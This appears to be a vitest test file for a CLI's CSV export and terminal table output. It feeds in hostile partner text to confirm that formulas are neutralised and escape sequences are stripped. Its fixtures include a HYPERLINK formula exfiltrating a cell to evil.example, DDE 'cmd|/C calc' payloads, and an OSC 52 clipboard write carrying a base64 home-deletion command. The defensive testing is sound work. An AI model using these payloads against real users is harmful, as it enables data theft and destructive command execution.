/**
 * Output that never runs: partner-typed text reaches a spreadsheet as text (no formula cells in
 * any CSV) and a terminal as text (no escape or control sequences in any table).
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../src/lib/store/index.ts';
import { inertCsv, neutralizeFormula } from '../../src/lib/text/csv.ts';
import { terminalSafe } from '../../src/lib/text/terminal.ts';
import { runCli } from '../helpers/site-build.ts';

const OSC52 = '\u001b]52;c;cm0gLXJmIH4=\u0007';
const hostile = {
  text: `=HYPERLINK("http://evil.example/?"&A1,"Click") ${OSC52}done\u001b[2J\u001b[1A\rfake line`,
  resonates: '+cmd|/C calc!A0',
  missing: '@SUM(1+1)*cmd|/C calc',
};

describe('inert text helpers', () => {
  it('terminalSafe drops OSC, CSI, DCS, C1, CR and bidi overrides, keeps text, tabs and newlines', () => {
    expect(terminalSafe(`a${OSC52}b`)).toBe('ab');
    expect(terminalSafe('\u001b[31mred\u001b[0m')).toBe('red');
    expect(terminalSafe('x\u001bP1$qm\u001b\\y')).toBe('xy');
    expect(terminalSafe('x\u009b2Jy\u009d0;title\u009cz')).toBe('xyz');
    expect(terminalSafe('over\rwrite')).toBe('overwrite');
    expect(terminalSafe('abc\u202edcba')).toBe('abcdcba');
    expect(terminalSafe('Paweł Zieliński\tline\nnext — 82 %')).toBe('Paweł Zieliński\tline\nnext — 82 %');
    // Lines the CLI composes keep its own colours, and only those.
    expect(terminalSafe(`\u001b[1mbold\u001b[22m ${OSC52}x\u001b[2J`, { keepColour: true })).toBe(
      '\u001b[1mbold\u001b[22m x',
    );
    // An unterminated OSC swallows the rest rather than leaving a live sequence.
    expect(terminalSafe(`ok\u001b]52;c;${'A'.repeat(20)}`)).toBe('ok');
  });

  it('every leading formula character is neutralised in CSV cells', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
      expect(neutralizeFormula(`${lead}1+1`)).toBe(`'${lead}1+1`);
    expect(neutralizeFormula('plain')).toBe('plain');
    const [row] = parse(inertCsv([{ a: '=1+1', b: true }], { header: true }), { columns: true }) as Record<
      string,
      string
    >[];
    expect(row).toEqual({ a: `'=1+1`, b: 'yes' });
  });
});

describe('aircover feedback with hostile partner text', () => {
  const root = mkdtempSync(join(tmpdir(), 'aircover-inert-'));
  const env = { AIRCOVER_DATA_DIR: root, DATABASE_URL: '' };

  beforeAll(async () => {
    const store = await openStore({ dataDir: root });
    await store.upsertPartners('sample', [
      {
        partnerId: 'vistula-wms',
        token: 'v'.repeat(32),
        email: 'pawel@example.com',
        company: `=cmd|' /C calc'!A0 ${OSC52}Vistula`,
        firstName: '-2+3',
        lastName: 'Zieliński',
        data: { fields: { role: '@admin' } },
      },
    ]);
    await store.addResponse({
      kind: 'feedback',
      campaign: 'sample',
      partnerId: 'vistula-wms',
      source: 'form',
      idempotencyKey: 'hostile',
      text: hostile.text,
      rating: 4,
      consentToQuote: true,
      data: { resonates: hostile.resonates, missing: hostile.missing },
    });
    await store.close();
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it('--csv writes no formula cell', async () => {
    const r = await runCli(['feedback', 'sample', '--csv'], env);
    expect(r.code, r.stderr).toBe(0);
    const [row] = parse(r.stdout, { columns: true }) as Record<string, string>[];
    for (const value of Object.values(row ?? {})) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(row?.text).toBe(`'${hostile.text}`);
    expect(row?.resonates).toBe(`'${hostile.resonates}`);
    expect(row?.missing).toBe(`'${hostile.missing}`);
    expect(row?.company?.startsWith(`'=cmd`)).toBe(true);
  });

  it('the table carries no escape or control sequence to the terminal', async () => {
    const r = await runCli(['feedback', 'sample'], env);
    expect(r.code, r.stderr).toBe(0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(r.stdout).toContain('=HYPERLINK');
    expect(r.stdout).toContain('Vistula');
  });
});
